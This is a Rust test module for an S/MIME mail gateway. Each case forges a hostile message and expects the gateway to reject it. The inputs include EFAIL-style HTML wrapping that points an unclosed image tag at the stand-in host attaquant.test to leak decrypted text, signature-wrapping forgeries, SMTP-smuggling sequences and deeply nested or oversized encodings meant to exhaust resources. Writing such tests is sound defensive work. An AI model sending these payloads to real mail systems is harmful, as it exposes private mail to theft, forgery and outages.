//! What is signed and what is shown: A1, A12, A14, A20, A21.

use pki::{cms::ContentCipher, der};

use super::{
    Cast, Row, forged,
    tree::{Tree, changed},
    *,
};

const GCM: ContentCipher = ContentCipher::Aes256Gcm;

fn row(form: &'static str, got: String, expected: &'static str) -> Row {
    Row { form, got, expected }
}

/// What the gateway says, and whether anything was decrypted for it.
fn with_decryption(cast: &Cast, message: &[u8]) -> String {
    let opened = crate::open(message, crate::Access::Keys(&[&cast.world.reader]), &[], &Limits::default());
    let decrypted = opened.is_ok_and(|opened| opened.encryption.is_some());
    format!("{}{}", cast.says(message), if decrypted { ", decrypted" } else { "" })
}

pub(super) fn a1(cast: &Cast) -> Vec<Row> {
    let html = |body: &str| wire(&format!("Content-Type: text/html\n\n{body}\n"));
    let secret = encrypted(&cast.world, &signed(&cast.world.doctor, &text("secret")), GCM);
    let (before, after) = (html("<img src=\"http://attaquant.test/"), html("\">"));
    let around = forged::mixed(&[&before, &secret, &after]);
    let related = String::from_utf8(around.clone()).unwrap().replacen("multipart/mixed", "multipart/related", 1);
    let alternative =
        String::from_utf8(around.clone()).unwrap().replacen("multipart/mixed", "multipart/alternative", 1);
    let tail = [&secret[..], b"\r\n<img src=\"http://attaquant.test/\r\n"].concat();
    let attached =
        forged::mixed(&[&before, &[&b"Content-Type: message/rfc822\r\n\r\n"[..], &mail(ZOE, &secret)].concat()]);
    // What was encrypted stays its own message: the unclosed tag inside meets nothing from outside.
    let unclosed = encrypted(&cast.world, &signed(&cast.world.doctor, &html("<img src='http://attaquant.test/")), GCM);
    let alone = mail(ZOE, &[&unclosed[..], b""].concat());
    let handed = crate::open(&alone, crate::Access::Keys(&[&cast.world.reader]), &[], &Limits::default()).unwrap();
    let body = bytes(&handed);
    let end = body.ends_with(b"<img src='http://attaquant.test/\r\n");
    vec![
        row("between two pieces of HTML", with_decryption(cast, &mail(ZOE, &around)), "Refuse:signature_not_root"),
        row("in a related set", with_decryption(cast, &mail(ZOE, related.as_bytes())), "Refuse:signature_not_root"),
        row(
            "as an alternative",
            with_decryption(cast, &mail(ZOE, alternative.as_bytes())),
            "Refuse:signature_not_root",
        ),
        row("text behind the container", with_decryption(cast, &mail(ZOE, &tail)), "open:mime_malformed"),
        row("in an attached message", with_decryption(cast, &mail(ZOE, &attached)), "Accept:signature_in_attachment"),
        row("an unclosed tag inside", format!("alone: {end}"), "alone: true"),
    ]
}

pub(super) fn a12(cast: &Cast) -> Vec<Row> {
    let (good, evil) = (text("bonjour"), text("faux"));
    let doctor = &cast.world.doctor;
    let (clear, opaque) = (forged::clear_signed(doctor, &good), signed(doctor, &good));
    let signature = pki::cms::sign_detached(&good, doctor, NOW, &[]).unwrap();
    let says = |entity: &[u8]| cast.says(&mail(ZOE, entity));
    let text_of = |entity: &[u8]| String::from_utf8(entity.to_vec()).unwrap();
    let three = text_of(&clear).replace("--s--", "--s\r\n\r\nfaux\r\n--s--");
    let swapped = {
        let part = forged::part(&signature, "application/pkcs7-signature");
        let head = wire(
            "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256; boundary=s\n\n--s\n",
        );
        [&head[..], &part, b"\r\n--s\r\n", &good, b"\r\n--s--\r\n"].concat()
    };
    const NOT_ROOT: &str = "Refuse:signature_not_root";
    vec![
        row("another part before it", says(&forged::mixed(&[&evil, &clear])), NOT_ROOT),
        row("another part behind it", says(&forged::mixed(&[&clear, &evil])), NOT_ROOT),
        row("an opaque one among parts", says(&forged::mixed(&[&evil, &opaque])), NOT_ROOT),
        row("the only part of a multipart", says(&forged::mixed(&[&opaque])), NOT_ROOT),
        row("two levels down", says(&forged::mixed(&[&evil, &forged::mixed(&[&clear]).replace_boundary()])), NOT_ROOT),
        row("below the encryption", says(&encrypted(&cast.world, &forged::mixed(&[&evil, &clear]), GCM)), NOT_ROOT),
        row(
            "a signature file alone",
            says(&forged::mixed(&[&evil, &forged::part(&signature, "application/pkcs7-signature")])),
            NOT_ROOT,
        ),
        row("a third part", says(three.as_bytes()), "open:mime_malformed"),
        row("signature and content swapped", says(&swapped), "open:mime_malformed"),
        row(
            "around the ciphertext only",
            says(&signed(doctor, &encrypted(&cast.world, &good, GCM))),
            "Refuse:signature_outside_encryption",
        ),
        row(
            "of a text that was there before",
            says(text_of(&clear).replace("bonjour", "bonsoir").as_bytes()),
            "Refuse:altered",
        ),
    ]
}

/// The same multipart under another boundary, to stand inside one.
trait Rebound {
    fn replace_boundary(self) -> Vec<u8>;
}

impl Rebound for Vec<u8> {
    fn replace_boundary(self) -> Vec<u8> {
        let text = String::from_utf8(self).unwrap();
        text.replace("boundary=m", "boundary=inner").replace("--m", "--inner").into_bytes()
    }
}

pub(super) fn a14(cast: &Cast) -> Vec<Row> {
    let message = |first: &str, inner: &str| {
        let entity = signed(&cast.world.gateway, &forged::wrap(inner));
        cast.says(&[&wire(&format!("{first}From: zoe@ch-exemple.test\nMIME-Version: 1.0\n"))[..], &entity].concat())
    };
    const INNER: &str = "From: zoe@ch-exemple.test\nTo: b@ch-autre.test\n\nbonjour\n";
    let outer = |field: &str| message(field, INNER);
    let inner = |fields: &str| message("", &format!("{fields}{INNER}"));
    let parts = |head: &str| {
        let inner = format!(
            "From: zoe@ch-exemple.test\nTo: b@ch-autre.test\nContent-Type: multipart/mixed; boundary=p\n\n--p\n{head}\n\nx\n--p--\n"
        );
        message("", &inner)
    };
    const TWICE: &str = "open:duplicate_field";
    vec![
        row("From outside", outer("From: chef@ch-exemple.test\n"), TWICE),
        row("Content-Type outside", outer("Content-Type: text/plain\n"), TWICE),
        row("MIME-Version outside", outer("MIME-VERSION: 1.0\n"), TWICE),
        row("encoding outside", outer("Content-Transfer-Encoding: 7bit\n"), TWICE),
        row("From inside", inner("From: chef@ch-exemple.test\n"), TWICE),
        row("Subject inside", inner("Subject: a\nSubject: b\n"), TWICE),
        row("To inside", inner("To: c@ch-autre.test\n"), TWICE),
        row("Date inside, in another case", inner("Date: Sat, 21 Nov 2026 23:57:00 +0100\nDATE: x\n"), TWICE),
        row("Message-ID inside", inner("Message-ID: <1@x>\nMessage-Id: <2@x>\n"), TWICE),
        row("Reply-To inside", inner("Reply-To: a@x.test\nReply-To: b@x.test\n"), TWICE),
        row("Content-Type of a part", parts("Content-Type: text/plain\nContent-Type: text/html"), TWICE),
        row("encoding of a part", parts("Content-Transfer-Encoding: 7bit\ncontent-transfer-encoding: base64"), TWICE),
        row("disposition of a part", parts("Content-Disposition: inline\nContent-Disposition: attachment"), TWICE),
    ]
}

pub(super) fn a20(cast: &Cast) -> Vec<Row> {
    let good = text("bonjour");
    let says = |entity: &[u8]| cast.says(&mail(ZOE, entity));
    let layers = (0..6).fold(good.clone(), |entity, _| signed(&cast.world.doctor, &entity));
    let nested = |levels: usize| {
        let levels: String =
            (0..levels).map(|n| format!("Content-Type: multipart/mixed; boundary=b{n}\n\n--b{n}\n")).collect();
        wire(&format!("{levels}\nx\n"))
    };
    let letters = wire(&"Content-Type: message/rfc822\n\n".repeat(80));
    let wide = wire(&format!("Content-Type: multipart/mixed; boundary=b\n\n{}--b--\n", "--b\n\nx\n".repeat(10_001)));
    let sealed = cast.sealed(GCM);
    let crowd = changed(&sealed, |tree| {
        let recipients = tree.at(&[1, 0, 1]);
        let one = recipients[0].clone();
        recipients.extend(std::iter::repeat_n(one, 1000));
    });
    let crowd_in_one = changed(&sealed, |tree| {
        let keys = tree.at(&[1, 0, 1, 0, 3]);
        let one = keys[0].clone();
        keys.extend(std::iter::repeat_n(one, 1000));
    });
    let compressed = [0x30, 0x0d, 6, 11, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 1, 9, 16, 1, 9];
    let compressed = [&[0x30, 17][..], &compressed[2..], &[0xa0, 2, 0x30, 0]].concat();
    let deep = [0x30, 0x80].repeat(100_000);
    let huge = [&sealed[..1], &[0x88, 0x7f, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff], &sealed[4..]].concat();
    // Strings of strings, all of them empty: of no piece is there an octet.
    let hollow = [&[0x24, 0x80][..], &[0x24, 0].repeat(20_000), &[0, 0]].concat();
    let hollow = [&[0xa0, 0x80][..], &hollow, &[0, 0]].concat();
    let hollow = [&[0x30, 0x80][..], &der::oid("1.2.840.113549.1.7.1").unwrap(), &hollow, &[0, 0]].concat();
    let hollow = [&[0x30, 0x80][..], &der::integer(1), &[0x31, 0], &hollow, &[0, 0]].concat();
    let hollow =
        [&[0x30, 0x80][..], &der::oid("1.2.840.113549.1.7.2").unwrap(), &[0xa0, 0x80], &hollow, &[0; 4]].concat();
    let certificates = changed(&cast.signed(), |tree| {
        let all = tree.at(&[1, 0, 3]);
        let one = all[0].clone();
        all.extend(std::iter::repeat_n(one, 100));
    });
    let attributes = changed(&cast.signed(), |tree| {
        let all = tree.at(&[1, 0, 4, 0, 3]);
        let one = Tree::of(&der::sequence(&[der::oid("1.2.3").unwrap(), der::set_of(&[der::null()])]));
        all.extend(std::iter::repeat_n(one, 100));
    });
    vec![
        row("six layers", says(&layers), "open:too_many_layers"),
        row(
            "encrypted twice",
            says(&encrypted(&cast.world, &encrypted(&cast.world, &good, GCM), GCM)),
            "open:encrypted_twice",
        ),
        row("compressed", cast.of(&compressed), "open:container_kind"),
        row(
            "compressed below the encryption",
            says(&encrypted(&cast.world, &in_base64(&compressed), GCM)),
            "open:container_kind",
        ),
        row("seventy multiparts, unsigned", says(&nested(70)), "open:too_many_parts"),
        row("seventy multiparts, signed", says(&signed(&cast.world.doctor, &nested(70))), "open:too_many_parts"),
        row("eighty letters in one another", says(&letters), "open:too_many_parts"),
        row("ten thousand parts, signed", says(&signed(&cast.world.doctor, &wide)), "open:too_many_parts"),
        row("a thousand and one recipients", cast.of(&crowd), "open:cms_malformed"),
        row("as many in one entry", cast.of(&crowd_in_one), "open:cms_malformed"),
        row("values a hundred thousand deep", cast.of(&deep), "open:cms_malformed"),
        row("a length of exabytes", cast.of(&huge), "open:cms_malformed"),
        row("twenty thousand empty strings in one another's place", cast.of(&hollow), "open:cms_malformed"),
        row("a hundred certificates", cast.of(&certificates), "Refuse:signature_malformed"),
        row("a hundred attributes", cast.of(&attributes), "Refuse:signature_malformed"),
        row(
            "two thousand fields",
            cast.says(&[&wire(&"X-A: b\n".repeat(2000))[..], &mail(ZOE, &good)].concat()),
            "open:header_too_long",
        ),
    ]
}

pub(super) fn a21(cast: &Cast) -> Vec<Row> {
    let says = |body: &[u8]| cast.says(&[&mail(ZOE, b"")[..], b"\r\n", body].concat());
    let inside = |body: &[u8]| {
        let content = [&b"Content-Type: text/plain\r\n\r\n"[..], body].concat();
        cast.says(&mail(ZOE, &encrypted(&cast.world, &signed(&cast.world.doctor, &content), GCM)))
    };
    vec![
        row("LF dot LF", says(b"a\n.\nMAIL FROM:<x@y.test>\r\n"), "open:bare_lf"),
        row("LF dot CRLF", says(b"a\n.\r\nMAIL FROM:<x@y.test>\r\n"), "open:bare_lf"),
        row("CR dot CR", says(b"a\r.\rMAIL FROM:<x@y.test>\r\n"), "open:bare_cr"),
        row("CR at the end", says(b"a\r"), "open:bare_cr"),
        row("CR CR LF", says(b"a\r\r\n.\r\n"), "open:bare_cr"),
        row("NUL", says(b"a\0\r\n.\r\n"), "open:nul_octet"),
        row("LF dot CRLF under seal and signature", inside(b"a\n.\r\nMAIL FROM:<x@y.test>\r\n"), "open:bare_lf"),
        row("CR dot CRLF under seal and signature", inside(b"a\r.\r\nb\r\n"), "open:bare_cr"),
    ]
}
